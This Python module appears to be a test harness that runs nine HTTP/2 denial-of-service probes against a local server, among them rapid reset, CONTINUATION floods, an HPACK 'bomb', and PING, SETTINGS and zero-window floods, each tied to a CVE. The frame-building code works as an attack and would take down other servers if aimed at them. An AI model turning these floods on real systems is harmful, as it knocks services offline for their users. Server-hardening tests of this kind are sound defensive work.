"""Nine ways in which HTTP/2 has been abused: what is cheap to send and dear to serve. Each probe says what became of it.

Header blocks are bytes on purpose: a client that keeps the rules could not make most of them.
"""
import dataclasses
import select
import socket
import struct

from .http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, ERRORS, GOAWAY, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM,
                    SETTINGS, WINDOW_UPDATE, frame, setting)

CANCEL = struct.pack(">I", 8)
INITIAL_WINDOW = 4
GET, POST, HTTP = b"\x82", b"\x83", b"\x86"  # of the static table
PATIENCE_S = 2.0
FAREWELL_S = 0.5
MANY = 50_000
AT_ONCE = 100  # frames in one send


def literal(name, value):
    """A field that enters no table; both shorter than 127 bytes."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(path, method=GET):
    """No field of it enters the dynamic table."""
    path = path.encode()
    return method + HTTP + b"\x04" + bytes([len(path)]) + path + b"\x01\x09localhost"


class Flood:
    """One connection that sends what it likes, and reads only if it likes."""

    def __init__(self, port, settings=b"", reads=True):
        self.socket = socket.create_connection(("127.0.0.1", port), PATIENCE_S)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.reads, self.frames, self.sent, self.ended, self.goaway, self._rest = reads, 0, 0, False, None, b""
        self.stalled = False  # the other side took no more bytes
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings), frames=0)

    def send(self, data, frames=1):
        """False when there is no point in going on."""
        if self.ended or self.stalled:
            return False
        try:
            self.socket.settimeout(PATIENCE_S)
            self.socket.sendall(data)
            self.sent, self.frames = self.sent + len(data), self.frames + frames
        except TimeoutError:
            self.stalled = True
        except OSError:
            self.ended = True
        if self.reads:
            self.drain(0)
        return not (self.ended or self.stalled)

    def drain(self, patience):
        """Reads what is there, and what comes within `patience` of what was there."""
        try:
            while select.select([self.socket], [], [], patience)[0]:
                piece = self.socket.recv(1 << 18)
                if not piece:
                    self.ended = True
                    return
                self._scan(piece)
        except OSError:
            self.ended = True

    def _scan(self, piece):
        self._rest += piece
        at = 0
        while len(self._rest) >= at + 9 + (size := int.from_bytes(self._rest[at:at + 3], "big")) and len(self._rest) >= at + 9:
            if self._rest[at + 3] == GOAWAY:
                self.goaway = ERRORS[int.from_bytes(self._rest[at + 13:at + 17], "big")]
            at += 9 + size
        self._rest = self._rest[at:]


@dataclasses.dataclass
class Outcome:
    """`ended`: how many of the connections the server ended, by GOAWAY or at once."""
    offered: int
    frames: int
    sent: int
    connections: int
    ended: int
    stalled: int
    goaways: list


class Probe:
    """Holds its connections open until closed, so that what they pin can be measured."""

    def __init__(self, port, path):
        self.port, self.path, self.floods, self.offered = port, path, [], 0

    def __enter__(self):
        return self

    def __exit__(self, *_):
        for flood in self.floods:
            flood.socket.close()

    def flood(self, **more):
        self.floods.append(Flood(self.port, **more))
        return self.floods[-1]

    def repeat(self, flood, count, one, at_once=1):
        """one(number) is the bytes of a single frame, or of what is counted as one."""
        self.offered += count
        for first in range(0, count, at_once):
            if not flood.send(b"".join(one(number) for number in range(first, first + at_once)), frames=at_once):
                return

    def outcome(self):
        for flood in self.floods:
            flood.drain(FAREWELL_S if len(self.floods) == 1 else 0.05)
        return Outcome(self.offered, sum(f.frames for f in self.floods), sum(f.sent for f in self.floods), len(self.floods),
                       sum(f.ended or f.goaway is not None for f in self.floods), sum(f.stalled for f in self.floods),
                       sorted({f.goaway for f in self.floods if f.goaway}))


def rapid_reset(probe):
    """CVE-2023-44487: streams are given up as soon as they are begun."""
    head = request(probe.path)
    probe.repeat(probe.flood(), 5000, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, head) +
                 frame(RST_STREAM, 0, 2 * n + 1, CANCEL))


def made_you_reset(probe):
    """CVE-2025-8671: the server is made to give the streams up, by a window that grows by nothing."""
    head = request(probe.path)
    probe.repeat(probe.flood(), 5000, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, head) +
                 frame(WINDOW_UPDATE, 0, 2 * n + 1, bytes(4)))


def continuation(probe):
    """CVE-2024-28182 and its kin: a head that never ends."""
    flood = probe.flood()
    flood.send(frame(HEADERS, END_STREAM, 1, request(probe.path)))
    probe.repeat(flood, 20_000, lambda n: frame(CONTINUATION, 0, 1, literal(b"x-%05d" % n, b"y" * 20)))


def bomb(probe):
    """CVE-2026-49975: one byte for each reference to a field of the table, and a window that lets no answer out."""
    head = request(probe.path)
    for _ in range(4):
        flood = probe.flood(settings=setting(INITIAL_WINDOW, 0))
        flood.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, head + b"\x40\x06cookie\x01a"))
        probe.repeat(flood, 99, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 3, head + b"\xbe" * 16_000))


def ping(probe):
    """CVE-2019-9512: each wants an answer that nobody reads."""
    probe.repeat(probe.flood(reads=False), MANY, lambda _: frame(PING, 0, 0, bytes(8)), AT_ONCE)


def settings(probe):
    """CVE-2019-9515: the same with settings."""
    probe.repeat(probe.flood(reads=False), MANY, lambda _: frame(SETTINGS, 0, 0), AT_ONCE)


def empty_data(probe):
    """CVE-2019-9518: frames of a body that bring nothing."""
    flood = probe.flood()
    flood.send(frame(HEADERS, END_HEADERS, 1, request(probe.path, POST)))
    probe.repeat(flood, MANY, lambda _: frame(DATA, 0, 1), AT_ONCE)


def priority(probe):
    """CVE-2019-9513: work on a tree of streams that do not exist."""
    probe.repeat(probe.flood(), MANY, lambda n: frame(PRIORITY, 0, 2 * n + 1, struct.pack(">IB", 0, 16)), AT_ONCE)


def zero_window(probe):
    """CVE-2019-9517: two thousand answers are asked for and none is let out."""
    head = request(probe.path)
    for _ in range(20):
        probe.repeat(probe.flood(settings=setting(INITIAL_WINDOW, 0)), 100,
                     lambda n: frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, head))


PROBES = {probe.__name__: probe for probe in (rapid_reset, made_you_reset, continuation, bomb, ping, settings, empty_data, priority,
                                              zero_window)}
